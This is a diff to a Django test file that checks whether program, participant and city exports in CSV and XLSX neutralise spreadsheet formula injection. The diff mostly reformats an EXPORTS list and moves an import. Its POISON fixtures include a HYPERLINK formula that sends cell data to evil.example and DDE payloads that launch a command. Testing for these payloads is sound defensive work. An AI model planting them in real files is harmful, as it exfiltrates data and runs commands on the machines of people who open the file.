@@ -13,13 +13,14 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from cities.resources import CityResource
+from exchange_portal.spreadsheets import FORMULA_PREFIXES
 from participants.resources import ParticipantResource
-from programs.resources import FORMULA_PREFIXES, ProgramResource
+from programs.resources import ProgramResource
 
 from .test_scoping import export_form
 
 POISON = {
-    "program title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "program title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "headcount note": "@SUM(1+1)*cmd|' /C calc'!A0",
     "participant name": "=cmd|' /C calc'!A0",
     "organisation": "+1+1",
@@ -66,14 +67,26 @@ def public_export(path):
 
 # (export, how to fetch it, the poisoned values it must contain neutralised)
 EXPORTS = [
-    ("admin programs csv", admin_export("admin:programs_program_export", ProgramResource, "0"),
-     ["program title", "headcount note"]),
-    ("admin programs xlsx", admin_export("admin:programs_program_export", ProgramResource, "1"),
-     ["program title", "headcount note"]),
-    ("admin participants csv", admin_export("admin:participants_participant_export", ParticipantResource, "0"),
-     ["participant name", "organisation", "position"]),
-    ("admin participants xlsx", admin_export("admin:participants_participant_export", ParticipantResource, "1"),
-     ["participant name", "organisation", "position"]),
+    (
+        "admin programs csv",
+        admin_export("admin:programs_program_export", ProgramResource, "0"),
+        ["program title", "headcount note"],
+    ),
+    (
+        "admin programs xlsx",
+        admin_export("admin:programs_program_export", ProgramResource, "1"),
+        ["program title", "headcount note"],
+    ),
+    (
+        "admin participants csv",
+        admin_export("admin:participants_participant_export", ParticipantResource, "0"),
+        ["participant name", "organisation", "position"],
+    ),
+    (
+        "admin participants xlsx",
+        admin_export("admin:participants_participant_export", ParticipantResource, "1"),
+        ["participant name", "organisation", "position"],
+    ),
     ("admin cities csv", admin_export("admin:cities_city_export", CityResource, "0"), ["city name", "city slug"]),
     ("admin cities xlsx", admin_export("admin:cities_city_export", CityResource, "1"), ["city name", "city slug"]),
     ("public programs csv", public_export("/programs/export.csv"), ["program title", "headcount note"]),
